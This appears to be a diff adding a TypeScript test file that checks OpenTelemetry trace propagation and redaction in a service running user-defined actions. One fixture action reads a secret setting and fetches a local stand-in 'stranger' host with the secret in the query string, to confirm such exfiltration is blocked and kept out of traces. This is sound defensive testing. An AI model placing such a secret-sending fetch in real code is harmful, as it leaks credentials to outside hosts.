@@ -1,0 +1,136 @@
+/** Traces, against a collector in this process: one from the request through the run and its browser to what the action fetches. */
+import { createServer, type IncomingHttpHeaders } from "node:http";
+import type { AddressInfo } from "node:net";
+import { expect } from "chai";
+import { createTracing, NO_TRACING } from "../../src/operations/watch/tracing.js";
+import { startTestService, type TestService } from "../harness/service.js";
+import { type CollectedSpan, startTraceCollector, type TraceCollector } from "../harness/trace-collector.js";
+
+const SECRET = "a-secret-of-many-characters";
+const OURS = "0af7651916cd43dd8448eb211c80319c";
+const parentOf = (traceId: string) => `00-${traceId}-b7ad6b7169203331-01`;
+
+/** A host that is not the service's, and what it hears. */
+async function startStranger() {
+  const heard: IncomingHttpHeaders[] = [];
+  const server = createServer(({ headers }, response) => {
+    heard.push(headers);
+    response.writeHead(200, { "access-control-allow-origin": "*" }).end("hello");
+  });
+  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
+  const { port } = server.address() as AddressInfo;
+  const stop = () => new Promise((resolve) => server.close(resolve).closeAllConnections());
+  return { url: `http://127.0.0.1:${port}`, port, heard, stop };
+}
+
+describe("traces", function () {
+  this.timeout(60_000);
+  let collector: TraceCollector;
+  let stranger: Awaited<ReturnType<typeof startStranger>>;
+  let service: TestService;
+  const runs: Record<string, number> = {};
+
+  const create = async (name: string, body: string) => {
+    const code = `async function execute(context) { ${body} }`;
+    const fields = { name, code, active: true, triggers: [{ trigger: "manual" }] };
+    expect((await service.rest("POST", "/v3/apps/1/actions", { body: fields })).http).to.equal(201);
+  };
+  const call = (path: string, as = "editor", traceId = OURS) =>
+    service.rest("POST", `/v3/apps/1/actions/${path}`, { as, body: {}, headers: { traceparent: parentOf(traceId) } });
+
+  before(async () => {
+    collector = await startTraceCollector();
+    stranger = await startStranger();
+    service = await startTestService({ OTEL_EXPORTER_OTLP_ENDPOINT: collector.url, ALLOW_PRIVATE_NETWORK: "1" });
+    await service.rest("POST", "/v1/apps/1/settings", { body: { __key: SECRET } });
+    await create("inner", "return 1");
+    await create("outer", "return Svc.App.V3.Actions.runWithResult('inner', {})");
+    await create("abroad", `return (await fetch("${stranger.url}/a?b=${"c".repeat(9)}")).text()`);
+    const leak = "const { __key: key } = context.settings; console.log(key)";
+    const blocked = `await fetch("${stranger.url}/?k=" + key).catch(() => {})`;
+    await create("leaks", `${leak}; ${blocked}; throw new Error("it is " + key)`);
+    for (const name of ["outer", "abroad", "leaks"]) await call(`${name}/runWithResult`);
+    runs["queued"] = (await call("inner/run")).body.runId;
+    runs["ofVisitor"] = (await call("inner/runWithResult", "viewer", "1".repeat(32))).body.runId;
+    await service.rest("POST", `/v3/apps/1/actions/${SECRET}/runWithResult`, { body: { [SECRET]: SECRET } });
+    await service.stopService();
+  });
+  after(async () => {
+    await service.stop();
+    await stranger.stop();
+    await collector.stop();
+  });
+
+  const childrenOf = ({ spanId }: CollectedSpan, name: string) =>
+    collector.spans.filter((one) => one.parentSpanId === spanId && one.name === name);
+  const requests = () =>
+    collector.spans.filter(({ name, parentSpanId }) => name.startsWith("POST ") && parentSpanId === "b7ad6b7169203331");
+
+  it("go from the request to the run, its browser, the fetch of its action, and on into what that asks of the service", () => {
+    const chains = requests().flatMap((request) =>
+      childrenOf(request, "run").flatMap((run) =>
+        childrenOf(run, "browser").flatMap((browser) =>
+          childrenOf(browser, "fetch").flatMap((fetch) =>
+            collector.spans
+              .filter((one) => one.parentSpanId === fetch.spanId)
+              .map((inside) => ({ request, run, browser, fetch, inside, innerRuns: childrenOf(inside, "run") })),
+          ),
+        ),
+      ),
+    );
+    const [chain] = chains.filter(({ innerRuns }) => innerRuns.length > 0);
+    expect(chain, "a chain through five spans to a run").to.not.equal(undefined);
+    const { request, run, fetch, innerRuns } = chain!;
+    const spans = [...Object.values(chain!).flat()];
+    expect(new Set(spans.map(({ traceId }) => traceId))).to.deep.equal(new Set([OURS]));
+    expect(request.values).to.deep.equal({
+      "http.request.method": "POST",
+      "http.route": "/v3/apps/:appId/actions/:nameOrId/runWithResult",
+      "http.response.status_code": 200,
+    });
+    expect(run.values).to.include({ "svc.trigger": "manual", "svc.outcome": "completed", "svc.room": "document" });
+    expect(fetch.values).to.include({ "server.address": "127.0.0.1", "http.response.status_code": 200 });
+    expect(innerRuns[0]!.values).to.include({ "svc.outcome": "completed" });
+    expect([...collector.paths]).to.deep.equal(["/v1/traces"]);
+  });
+
+  it("tell a stranger nothing: what an action fetches elsewhere carries no trace", () => {
+    expect(stranger.heard).to.have.length(1);
+    expect(stranger.heard[0]).to.not.have.any.keys("traceparent", "tracestate", "baggage");
+    const [abroad] = collector.spans.filter(({ values }) => Number(values["server.port"]) === stranger.port);
+    expect(abroad?.values).to.include({ "http.request.method": "GET", "http.response.status_code": 200 });
+  });
+
+  it("take a run along that waited in the queue", () => {
+    const [run] = collector.spans.filter(
+      ({ name, values }) => name === "run" && Number(values["svc.run_id"]) === runs["queued"],
+    );
+    expect(run?.traceId).to.equal(OURS);
+  });
+
+  it("are not a visitor's to choose", () => {
+    const [run] = collector.spans.filter(
+      ({ name, values }) => name === "run" && Number(values["svc.run_id"]) === runs["ofVisitor"],
+    );
+    expect(run?.traceId).to.be.a("string").and.not.equal("1".repeat(32));
+    expect(collector.texts.join("")).to.not.contain("1".repeat(32));
+  });
+
+  it("hold no secret, no payload, no message and no address", () => {
+    const all = collector.texts.join("");
+    for (const text of [SECRET, "it is", "?b=", "c".repeat(9), "inner", "leaks", service.tokens.editor]) {
+      expect(all.includes(text), text).to.equal(false);
+    }
+    const failed = collector.spans.filter(({ values }) => values["svc.outcome"] === "failed");
+    expect(failed.length).to.be.above(0);
+  });
+});
+
+describe("traces where no collector is named", () => {
+  it("are nothing at all", async () => {
+    expect(await createTracing(null, "one")).to.equal(NO_TRACING);
+    const span = NO_TRACING.begin("run", "internal", parentOf(OURS), { a: 1 });
+    expect(span.traceparent).to.equal(null);
+    expect(NO_TRACING.within(span, () => NO_TRACING.current())).to.equal(null);
+  });
+});
